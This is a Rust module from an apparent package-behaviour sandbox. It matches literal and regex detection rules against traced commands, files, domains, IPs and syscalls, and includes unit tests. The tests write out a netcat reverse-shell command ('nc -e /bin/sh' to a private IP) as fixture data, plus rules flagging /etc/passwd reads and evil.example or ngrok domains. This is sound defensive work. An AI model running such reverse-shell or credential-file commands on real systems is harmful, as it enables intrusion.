//! Literal and regular-expression rules over report indicators.
//!
//! Rules never see raw bytes: they match against the indicator strings a
//! report exposes ([`indicator_strings`]). Patterns use the `regex` crate,
//! whose matching time is linear in the input, so attacker-controlled
//! indicator text cannot trigger catastrophic backtracking.

mod parse;

use std::fmt;
use std::str::FromStr;

use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};

use crate::report::{BehaviorReport, Phase};

pub use parse::{parse_ruleset, print_ruleset};

/// Upper bound on a single `match` or `regex` body.
pub const MAX_PATTERN_BYTES: usize = 1024;
/// Compiled-program budget handed to the regex builder.
const REGEX_SIZE_LIMIT: usize = 1 << 20;

pub const DEFAULT_RULES: &str = include_str!("../../rules/default.rules");

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RuleError {
    #[error("line {line}, column {column}: {message}")]
    Syntax {
        line: usize,
        column: usize,
        message: String,
    },
    #[error(
        "duplicate rule id `{id}`: first defined on line {first_line}, again on line {second_line}"
    )]
    DuplicateId {
        id: String,
        first_line: usize,
        second_line: usize,
    },
    #[error("line {line}, column {column}: invalid regex in rule `{rule}`: {message}")]
    InvalidPattern {
        line: usize,
        column: usize,
        rule: String,
        message: String,
    },
}

impl RuleError {
    pub fn position(&self) -> (usize, usize) {
        match self {
            RuleError::Syntax { line, column, .. }
            | RuleError::InvalidPattern { line, column, .. } => (*line, *column),
            RuleError::DuplicateId { second_line, .. } => (*second_line, 1),
        }
    }
}

macro_rules! word_enum {
    ($name:ident { $($variant:ident => $text:literal),* $(,)? }) => {
        impl $name {
            pub fn as_str(self) -> &'static str {
                match self { $($name::$variant => $text),* }
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(self.as_str())
            }
        }

        impl FromStr for $name {
            type Err = ();

            fn from_str(s: &str) -> Result<Self, ()> {
                match s {
                    $($text => Ok($name::$variant),)*
                    _ => Err(()),
                }
            }
        }
    };
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Category {
    Command,
    File,
    Domain,
    Ip,
    Syscall,
    Any,
}

word_enum!(Category {
    Command => "command",
    File => "file",
    Domain => "domain",
    Ip => "ip",
    Syscall => "syscall",
    Any => "any",
});

impl Category {
    /// Categories that name a report section, in surface order.
    pub const CONCRETE: [Category; 5] = [
        Category::Command,
        Category::File,
        Category::Domain,
        Category::Ip,
        Category::Syscall,
    ];
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Low,
    Medium,
    High,
}

word_enum!(Severity {
    Low => "low",
    Medium => "medium",
    High => "high",
});

/// A compiled regex plus its source. Equality is by source.
#[derive(Debug, Clone)]
pub struct Pattern {
    source: String,
    regex: Regex,
    folded: Regex,
}

impl Pattern {
    pub fn new(source: &str) -> Result<Self, String> {
        if source.len() > MAX_PATTERN_BYTES {
            return Err(format!(
                "pattern is {} bytes; the limit is {MAX_PATTERN_BYTES}",
                source.len()
            ));
        }
        let build = |ci: bool| {
            RegexBuilder::new(source)
                .case_insensitive(ci)
                .size_limit(REGEX_SIZE_LIMIT)
                .build()
                .map_err(|e| e.to_string())
        };
        Ok(Pattern {
            source: source.to_string(),
            regex: build(false)?,
            folded: build(true)?,
        })
    }

    pub fn source(&self) -> &str {
        &self.source
    }

    fn is_match(&self, text: &str, fold: bool) -> bool {
        if fold { &self.folded } else { &self.regex }.is_match(text)
    }
}

impl PartialEq for Pattern {
    fn eq(&self, other: &Self) -> bool {
        self.source == other.source
    }
}

impl Eq for Pattern {}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Matcher {
    /// Substring match.
    Literal(String),
    /// Unanchored regex search.
    Pattern(Pattern),
}

impl Matcher {
    /// Domains are compared case-insensitively; everything else exactly.
    pub fn matches(&self, text: &str, category: Category) -> bool {
        let fold = category == Category::Domain;
        match self {
            Matcher::Literal(lit) if fold => text.to_lowercase().contains(&lit.to_lowercase()),
            Matcher::Literal(lit) => text.contains(lit.as_str()),
            Matcher::Pattern(p) => p.is_match(text, fold),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    pub id: String,
    pub category: Category,
    pub severity: Severity,
    pub description: String,
    /// Any one of these firing fires the rule.
    pub matchers: Vec<Matcher>,
}

impl Rule {
    pub fn applies_to(&self, category: Category) -> bool {
        self.category == Category::Any || self.category == category
    }

    pub fn matches(&self, text: &str, category: Category) -> bool {
        self.matchers.iter().any(|m| m.matches(text, category))
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RuleSet {
    pub rules: Vec<Rule>,
}

impl RuleSet {
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The built-in ruleset shipped with the crate.
    pub fn default_rules() -> Self {
        parse_ruleset(DEFAULT_RULES).expect("bundled default ruleset parses")
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Alert {
    pub rule_id: String,
    /// The section the matched indicator came from (never `any`).
    pub category: Category,
    pub phase: Phase,
    pub matched_value: String,
    pub severity: Severity,
    pub position: usize,
}

/// One matchable string drawn from a report section.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Indicator {
    pub phase: Phase,
    pub category: Category,
    pub text: String,
    /// Index of the record within its sorted section.
    pub index: usize,
}

fn section_strings(
    report: &BehaviorReport,
    phase: Phase,
    category: Category,
    out: &mut Vec<Indicator>,
) {
    let Some(p) = report.phases.get(&phase) else {
        return;
    };
    let mut push = |index: usize, text: String| {
        out.push(Indicator {
            phase,
            category,
            text,
            index,
        })
    };
    match category {
        Category::Command => {
            for (i, c) in p.commands.iter().enumerate() {
                let joined = c.argv.join(" ");
                let differs = joined != c.program_path;
                push(i, joined);
                if differs {
                    push(i, c.program_path.clone());
                }
            }
        }
        Category::File => p
            .files
            .iter()
            .enumerate()
            .for_each(|(i, f)| push(i, f.path.clone())),
        Category::Domain => p
            .domains
            .iter()
            .enumerate()
            .for_each(|(i, d)| push(i, d.name.clone())),
        Category::Ip => p.endpoints.iter().enumerate().for_each(|(i, e)| {
            let addr = match e.address {
                std::net::IpAddr::V4(a) => format!("{a}:{}", e.port),
                std::net::IpAddr::V6(a) => format!("[{a}]:{}", e.port),
            };
            push(i, addr)
        }),
        Category::Syscall => p
            .syscalls
            .counts
            .keys()
            .enumerate()
            .for_each(|(i, k)| push(i, k.clone())),
        Category::Any => unreachable!("expanded by the caller"),
    }
}

/// The match surface for `category`, in phase order and then section order.
/// `any` is the union of every concrete category.
pub fn indicator_strings(report: &BehaviorReport, category: Category) -> Vec<Indicator> {
    let cats: &[Category] = if category == Category::Any {
        &Category::CONCRETE
    } else {
        std::slice::from_ref(&category)
    };
    let mut out = Vec::new();
    for phase in Phase::ALL {
        for cat in cats {
            section_strings(report, phase, *cat, &mut out);
        }
    }
    out
}

/// Ordering contract for alerts: severity descending, then rule id, phase
/// and position. Remaining ties keep surface order.
pub fn alert_order(a: &Alert, b: &Alert) -> std::cmp::Ordering {
    b.severity
        .cmp(&a.severity)
        .then_with(|| a.rule_id.cmp(&b.rule_id))
        .then_with(|| a.phase.cmp(&b.phase))
        .then_with(|| a.position.cmp(&b.position))
}

/// One alert per (rule, indicator string) that matches.
pub fn match_report(report: &BehaviorReport, rules: &RuleSet) -> Vec<Alert> {
    let surface = indicator_strings(report, Category::Any);
    let mut alerts = Vec::new();
    for rule in &rules.rules {
        for ind in surface.iter().filter(|i| rule.applies_to(i.category)) {
            if rule.matches(&ind.text, ind.category) {
                alerts.push(Alert {
                    rule_id: rule.id.clone(),
                    category: ind.category,
                    phase: ind.phase,
                    matched_value: ind.text.clone(),
                    severity: rule.severity,
                    position: ind.index,
                });
            }
        }
    }
    alerts.sort_by(alert_order);
    alerts
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::{build_phase_report, CommandRecord, FileRecord, PhaseReport};
    use crate::sandbox::PackageSpec;
    use crate::strace::parse_str;

    fn report_from(trace: &str) -> BehaviorReport {
        let mut r = BehaviorReport::new(PackageSpec::named("npm", "x", None));
        r.insert_phase(build_phase_report(
            Phase::Execute,
            &parse_str(trace, None).events,
            0,
        ));
        r
    }

    #[test]
    fn passwd_literal() {
        let rules = parse_ruleset("rule passwd : file { severity = high match = \"/etc/passwd\" }")
            .unwrap();
        let report = report_from("openat(AT_FDCWD, \"/etc/passwd\", O_RDONLY) = 3\n");
        let alerts = match_report(&report, &rules);
        assert_eq!(
            alerts,
            vec![Alert {
                rule_id: "passwd".into(),
                category: Category::File,
                phase: Phase::Execute,
                matched_value: "/etc/passwd".into(),
                severity: Severity::High,
                position: 0,
            }]
        );
    }

    #[test]
    fn empty_ruleset_no_alerts() {
        let report = report_from("openat(AT_FDCWD, \"/etc/passwd\", O_RDONLY) = 3\n");
        assert!(match_report(&report, &RuleSet::default()).is_empty());
    }

    #[test]
    fn reverse_shell_pattern() {
        let rules = parse_ruleset(r"rule nc : command { regex = /nc\s+-e/ }").unwrap();
        let mut report = BehaviorReport::new(PackageSpec::named("npm", "x", None));
        let mut phase = PhaseReport::empty(Phase::Install, 0);
        phase.commands.push(CommandRecord {
            program_path: "nc".into(),
            argv: vec![
                "nc".into(),
                "-e".into(),
                "/bin/sh".into(),
                "10.0.0.5".into(),
                "4444".into(),
            ],
            pid: 1,
            succeeded: true,
            seq: 0,
        });
        report.insert_phase(phase);
        let alerts = match_report(&report, &rules);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].matched_value, "nc -e /bin/sh 10.0.0.5 4444");
    }

    #[test]
    fn command_surface_joins_argv() {
        let report = report_from("execve(\"/bin/sh\", [\"sh\", \"-c\", \"id\"], 0x1) = 0\n");
        let s: Vec<_> = indicator_strings(&report, Category::Command)
            .into_iter()
            .map(|i| i.text)
            .collect();
        assert_eq!(s, vec!["sh -c id", "/bin/sh"]);
    }

    #[test]
    fn empty_report_surfaces() {
        let report = BehaviorReport::new(PackageSpec::named("npm", "x", None));
        for c in Category::CONCRETE.into_iter().chain([Category::Any]) {
            assert!(indicator_strings(&report, c).is_empty());
        }
    }

    #[test]
    fn any_is_union() {
        let report = report_from(
            "execve(\"/bin/sh\", [\"sh\", \"-c\", \"id\"], 0x1) = 0\n\
             openat(AT_FDCWD, \"/etc/passwd\", O_RDONLY) = 3\n\
             connect(5, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, \"2001:db8::2\", &sin6_addr), sin6_scope_id=0}, 28) = 0\n",
        );
        let sum: usize = Category::CONCRETE
            .iter()
            .map(|c| indicator_strings(&report, *c).len())
            .sum();
        assert_eq!(indicator_strings(&report, Category::Any).len(), sum);
        let ips: Vec<_> = indicator_strings(&report, Category::Ip)
            .into_iter()
            .map(|i| i.text)
            .collect();
        assert_eq!(ips, vec!["[2001:db8::2]:443"]);
    }

    #[test]
    fn domain_matching_ignores_case() {
        let rules =
            parse_ruleset("rule d : domain { match = \"EVIL.Example\" regex = /^NGROK/ }").unwrap();
        let rule = &rules.rules[0];
        assert!(rule.matches("a.evil.example", Category::Domain));
        assert!(rule.matches("ngrok.io", Category::Domain));
        assert!(!rule.matches("a.evil.example", Category::File));
    }

    #[test]
    fn alerts_sorted_by_contract() {
        let rules = parse_ruleset(
            "rule b_low : file { severity = low match = \"/\" }\n\
             rule a_high : file { severity = high match = \"/\" }\n\
             rule c_high : any { severity = high match = \"e\" }\n",
        )
        .unwrap();
        let mut report = BehaviorReport::new(PackageSpec::named("npm", "x", None));
        for phase in [Phase::Execute, Phase::Install] {
            let mut p = PhaseReport::empty(phase, 0);
            for path in ["/a", "/e"] {
                p.files.push(FileRecord {
                    path: path.into(),
                    operations: Default::default(),
                    pids: Default::default(),
                });
            }
            report.insert_phase(p);
        }
        let alerts = match_report(&report, &rules);
        let keys: Vec<_> = alerts
            .iter()
            .map(|a| (a.rule_id.as_str(), a.phase, a.position))
            .collect();
        assert_eq!(
            keys,
            vec![
                ("a_high", Phase::Install, 0),
                ("a_high", Phase::Install, 1),
                ("a_high", Phase::Execute, 0),
                ("a_high", Phase::Execute, 1),
                ("c_high", Phase::Install, 1),
                ("c_high", Phase::Execute, 1),
                ("b_low", Phase::Install, 0),
                ("b_low", Phase::Install, 1),
                ("b_low", Phase::Execute, 0),
                ("b_low", Phase::Execute, 1),
            ]
        );
    }

    #[test]
    fn default_rules_parse_and_round_trip() {
        let set = RuleSet::default_rules();
        assert!(set.len() >= 8);
        assert_eq!(parse_ruleset(&print_ruleset(&set)).unwrap(), set);
    }
}
